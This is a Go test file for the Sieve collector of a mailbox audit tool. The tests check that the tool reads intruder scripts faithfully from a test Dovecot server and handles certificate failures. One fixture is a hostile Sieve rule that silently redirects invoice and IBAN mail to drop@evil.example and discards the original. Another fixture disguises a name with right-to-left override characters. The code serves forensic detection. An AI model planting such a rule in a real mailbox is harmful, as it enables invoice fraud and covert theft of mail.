package imap

import (
	"context"
	"crypto/sha256"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/mbaudit/mbaudit/collectors"
	"github.com/mbaudit/mbaudit/collectors/collectortest"
	"github.com/mbaudit/mbaudit/evidence"
	"github.com/mbaudit/mbaudit/internal/secret"
	"github.com/mbaudit/mbaudit/internal/servertest"
)

// The scripts of an intruder: the active one sends mail on and hides it, the other one waits.
const (
	activeScript = "require [\"copy\", \"fileinto\"];\r\n# rule:[.]\r\nif header :contains \"subject\" [\"facture\", \"IBAN\"] {\r\n" +
		"  redirect :copy \"drop@evil.example\";\r\n  discard;\r\n}\r\n"
	inactiveScript = "# \u202egnp.exe and a lone CR \r, no line break at the end\nkeep; # \xc3\xa9"
)

// putSieve stores scripts as their owner would, and makes the first one active.
func putSieve(t testing.TB, d *servertest.DovecotServer, user string, scripts ...[2]string) {
	t.Helper()
	for i, script := range scripts {
		args := []string{"-c", filepath.Join(d.Dir, "dovecot.conf"), "sieve", "put", "-u", user}
		if i == 0 {
			args = append(args, "-a")
		}
		cmd := exec.Command("doveadm", append(args, script[0])...)
		cmd.Stdin = strings.NewReader(script[1])
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("doveadm sieve put: %v\n%s", err, out)
		}
	}
}

func sieveConfig(d *servertest.DovecotServer) Config {
	cfg := dovecotConfig(d)
	cfg.Sieve = "sieve://" + net.JoinHostPort(d.Host, strconv.Itoa(d.SievePort))
	return cfg
}

// sieveSnapshot is what must not change: the files, and what doveadm says.
func sieveSnapshot(t testing.TB, d *servertest.DovecotServer, user string) string {
	t.Helper()
	return sieveFiles(t, d, user) + d.Doveadm(t, "sieve", "list", "-u", user)
}

// sieveFiles lists each file of the user's but the mailboxes', with its times and its content's digest.
func sieveFiles(t testing.TB, d *servertest.DovecotServer, user string) string {
	t.Helper()
	var b strings.Builder
	home := filepath.Dir(d.MailDir(user))
	err := filepath.WalkDir(home, func(path string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := e.Info()
		switch {
		case err != nil:
			return err
		case path == home:
			return nil
		case path == d.MailDir(user), path == filepath.Join(home, "shared"): // where Dovecot has its index of others' folders
			return fs.SkipDir
		case path == filepath.Join(home, "sieve", "tmp"): // an empty directory that Dovecot makes at the first login
			entries, err := os.ReadDir(path)
			if len(entries) > 0 {
				t.Errorf("%s has %v", path, entries)
			}
			return err
		case e.IsDir():
			fmt.Fprintln(&b, path)
			return nil
		}
		link, _ := os.Readlink(path) // empty for what is no link
		var content []byte
		if e.Type().IsRegular() {
			if content, err = os.ReadFile(path); err != nil {
				return err
			}
		}
		fmt.Fprintf(&b, "%s %v %v %q %x\n", path, info.Mode(), info.ModTime(), link, sha256.Sum256(content))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestDovecotSieve reads an intruder's scripts by every way to log in, and finds the source as it was.
func TestDovecotSieve(t *testing.T) {
	d := servertest.Dovecot(t)
	alice := d.Users[0]
	hostile := "\u202e\u200fgolden \\ \"quoted\" 💥"
	scripts := [][2]string{{"x", activeScript}, {"roundcube", inactiveScript}, {hostile, "#\n"}}
	putSieve(t, d, alice, scripts...)
	for name, change := range map[string]func(c *Config){
		"password": func(c *Config) {},
		"STARTTLS": func(c *Config) { c.URL = "imap://" + net.JoinHostPort(d.Host, strconv.Itoa(d.IMAPPort)) },
		"master user": func(c *Config) {
			c.Password, c.MasterUser, c.MasterPassword = secret.String{}, d.MasterUser, secret.New(d.MasterPassword)
			c.MasterSeparator = d.MasterSeparator
		},
		"master user by authorisation identity": func(c *Config) {
			c.Password, c.MasterUser, c.MasterPassword = secret.String{}, d.MasterUser, secret.New(d.MasterPassword)
			c.MasterAuthzID = true
		},
		"token": func(c *Config) { c.Password, c.Token = secret.String{}, secret.New(d.Token) },
	} {
		t.Run(name, func(t *testing.T) {
			cfg := sieveConfig(d)
			change(&cfg)
			before := sieveSnapshot(t, d, alice)
			sink := &collectortest.Sink{}
			if err := mustNew(t, cfg).Collect(t.Context(), collectors.Scope{Account: alice, Messages: collectors.MessagesNone}, sink); err != nil {
				t.Fatal(err)
			}
			if after := sieveSnapshot(t, d, alice); after != before {
				t.Errorf("the source changed.\nbefore:\n%s\nafter:\n%s", before, after)
			}
			collectortest.CheckSink(t, sink)
			for _, gap := range sink.Gaps() {
				t.Errorf("gap: %+v", gap)
			}
			checkScripts(t, d, alice, sink, scripts)
		})
	}
}

func checkScripts(t *testing.T, d *servertest.DovecotServer, user string, sink *collectortest.Sink, scripts [][2]string) {
	t.Helper()
	kept := sink.Resource("sieve")
	if len(kept) != len(scripts) {
		t.Errorf("%d scripts were kept, want %d", len(kept), len(scripts))
	}
	for _, k := range kept {
		// doveadm writes a heading before the script.
		if got := d.Doveadm(t, "sieve", "get", "-u", user, k.Attrs["script"]); got != "sieve script:\n"+string(k.Body) {
			t.Errorf("%s is\n%q, doveadm gives\n%q", k.Name, k.Body, got)
		}
		for i, script := range scripts {
			if script[0] == k.Attrs["script"] && (script[1] != string(k.Body) || k.Attrs["active"] != strconv.FormatBool(i == 0)) {
				t.Errorf("%s (active: %s) is\n%q, stored was\n%q", k.Name, k.Attrs["active"], k.Body, script[1])
			}
		}
	}
}

// TestDovecotSieveOutsideStorage has a script that Dovecot runs, as a file where the link to the active script would be:
// ManageSieve does not list it. The ledger must not let that pass for "there is no script at work".
func TestDovecotSieveOutsideStorage(t *testing.T) {
	d := servertest.Dovecot(t)
	bob := d.Users[1]
	file := filepath.Join(filepath.Dir(d.MailDir(bob)), ".dovecot.sieve")
	if err := os.WriteFile(file, []byte(activeScript), 0o644); err != nil {
		t.Fatal(err)
	}
	before := sieveFiles(t, d, bob)
	sink := &collectortest.Sink{}
	if err := mustNew(t, sieveConfig(d)).Collect(t.Context(), collectors.Scope{Account: bob, Messages: collectors.MessagesNone}, sink); err != nil {
		t.Fatal(err)
	}
	collectortest.CheckSink(t, sink)
	e, _ := sink.Expected("sieve")
	if e.Count != 0 || e.NotOffered || !strings.Contains(e.Note, "0 scripts, 0 active") || !strings.Contains(e.Note, notListed) {
		t.Errorf("announced: %+v", e)
	}
	if after := sieveFiles(t, d, bob); after != before {
		t.Errorf("the source changed.\nbefore:\n%s\nafter:\n%s", before, after)
	}
}

// TestDovecotSieveTrust connects to a server whose certificate is for another name, or by nobody's authority: a gap, and
// not a word of the login leaves.
func TestDovecotSieveTrust(t *testing.T) {
	d := servertest.Dovecot(t)
	alice := d.Users[0]
	imapPort := net.JoinHostPort(d.Host, strconv.Itoa(d.IMAPSPort))
	for name, test := range map[string]struct {
		sieve, want string
		class       evidence.GapClass
	}{
		"another name":       {"sieve://mail.example.test:" + strconv.Itoa(d.SievePort), "certificate is valid for localhost", evidence.GapFailed},
		"not ManageSieve":    {"sieves://" + imapPort, "a line begins with no string and is no status", evidence.GapInvalid},
		"clear where TLS is": {"sieve://" + net.JoinHostPort(d.Host, strconv.Itoa(d.IMAPPort)), "a line begins with no string", evidence.GapInvalid},
		"nothing there":      {"sieve://127.0.0.1:1", "nothing listens at 127.0.0.1:1 (connection refused)", evidence.GapFailed},
	} {
		t.Run(name, func(t *testing.T) {
			cfg := dovecotConfig(d)
			cfg.Sieve = test.sieve
			cfg.Dial = func(ctx context.Context, network, address string) (net.Conn, error) {
				return (&net.Dialer{}).DialContext(ctx, network, strings.Replace(address, "mail.example.test", "localhost", 1))
			}
			sink := &collectortest.Sink{}
			if err := mustNew(t, cfg).Collect(t.Context(), collectors.Scope{Account: alice, Messages: collectors.MessagesNone}, sink); err != nil {
				t.Fatal(err)
			}
			checkSieveGap(t, sink, "", test.class, test.want)
			if len(sink.Resource("list")) == 0 {
				t.Error("the rest of the account was not read")
			}
		})
	}
}

// checkSieveGap wants one gap of the resource sieve: of this item and class, with these words in its reason.
func checkSieveGap(t *testing.T, sink *collectortest.Sink, item string, class evidence.GapClass, reason string) {
	t.Helper()
	var found []evidence.Gap
	for _, gap := range sink.Gaps() {
		if gap.Resource == "sieve" && gap.Item == item {
			found = append(found, gap)
		}
	}
	if len(found) != 1 || found[0].Class != class || !strings.Contains(found[0].Reason, reason) {
		t.Errorf("the gaps are %+v, want one of %q: %s with %q", found, item, class, reason)
	}
}
